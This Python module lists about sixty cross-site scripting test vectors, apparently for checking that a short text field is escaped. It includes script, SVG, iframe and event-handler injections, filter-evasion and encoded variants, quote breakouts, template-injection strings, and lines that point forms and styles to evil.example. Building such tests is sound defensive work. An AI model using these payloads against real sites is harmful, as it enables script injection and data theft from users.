"""Texts that try to become part of a page: each leaves a mark that a browser would show.

``data-hit`` stands in what would be an element, ``hit()`` in what would be a script.
"""

_EVENTS = (
    "onerror", "onload", "onclick", "onfocus autofocus tabindex=1", "onmouseover", "ontoggle",
    "onanimationstart", "onpointerenter", "onbeforetoggle", "onscrollend",
)  # fmt: skip
_TAGS = (
    "<script data-hit>hit()</script>",
    "<ScRiPt data-hit>hit()</sCrIpT>",
    "<script data-hit src=data:,hit()></script>",
    "<script data-hit type=module>hit()</script>",
    "</title><script data-hit>hit()</script>",
    "</textarea><script data-hit>hit()</script>",
    "</script><script data-hit>hit()</script>",
    "</style><script data-hit>hit()</script>",
    "--><script data-hit>hit()</script><!--",
    "]]><script data-hit>hit()</script>",
    "<svg data-hit><script>hit()</script></svg>",
    "<svg data-hit><animate onbegin=hit() attributeName=x dur=1s>",
    "<svg data-hit><a xlink:href=javascript:hit()><text y=20>x</text></a></svg>",
    "<math data-hit><mtext><table><mglyph><style><img src=x onerror=hit()>",
    "<iframe data-hit src=javascript:hit()></iframe>",
    "<iframe data-hit srcdoc='<script>parent.hit()</script>'></iframe>",
    "<object data-hit data=javascript:hit()></object>",
    "<embed data-hit src=javascript:hit()>",
    "<base data-hit href=https://evil.example/>",
    "<meta data-hit http-equiv=refresh content='0;url=javascript:hit()'>",
    "<link data-hit rel=stylesheet href=data:text/css,*{color:red}>",
    "<style data-hit>@import 'https://evil.example/x.css';</style>",
    "<form data-hit action=https://evil.example/><button autofocus>Press</button></form>",
    "<input data-hit autofocus onfocus=hit()>",
    "<details data-hit open ontoggle=hit()>x</details>",
    "<video data-hit><source onerror=hit()></video>",
    "<a data-hit href=javascript:hit()>x</a>",
    "<a data-hit href='java\tscript:hit()'>x</a>",
    "<img data-hit src=x onerror=hit()//",
    "<img data-hit/src=x/onerror=hit()>",
    "<img data-hit src=`x` onerror=hit()>",
    "<<img data-hit src=x onerror=hit()>",
    "<\x0cimg data-hit src=x onerror=hit()>",
    "<template data-hit><img src=x onerror=hit()></template>",
    "<p data-hit style='background:url(https://evil.example/)'>x",
    "＜script data-hit＞hit()＜/script＞",  # which becomes a tag when it is folded
    "&lt;script data-hit&gt;hit()&lt;/script&gt;",
    "&#60;script data-hit&#62;hit()&#60;/script&#62;",
    "%3Cscript data-hit%3Ehit()%3C/script%3E",
    "\\u003cscript data-hit\\u003ehit()\\u003c/script\\u003e",
)
_BREAKING_OUT = (
    '" data-hit onfocus=hit() autofocus x="',
    "' data-hit onfocus=hit() autofocus x='",
    '"><b data-hit>x</b>',
    "'><b data-hit>x</b>",
    "` data-hit onerror=hit() x=`",
    "javascript:hit()",
    "data:text/html,<script data-hit>hit()</script>",
    "{{ 7|add:7 }}{% include 'base.html' %}",
    "${hit()} #{hit()} [[${hit()}]]",
    "';hit();//",
    '");hit();//',
)
#: About sixty, each short enough for the name of a certification.
VECTORS = (*_TAGS, *(f"<img data-hit src=x {event}=hit()>" for event in _EVENTS), *_BREAKING_OUT)
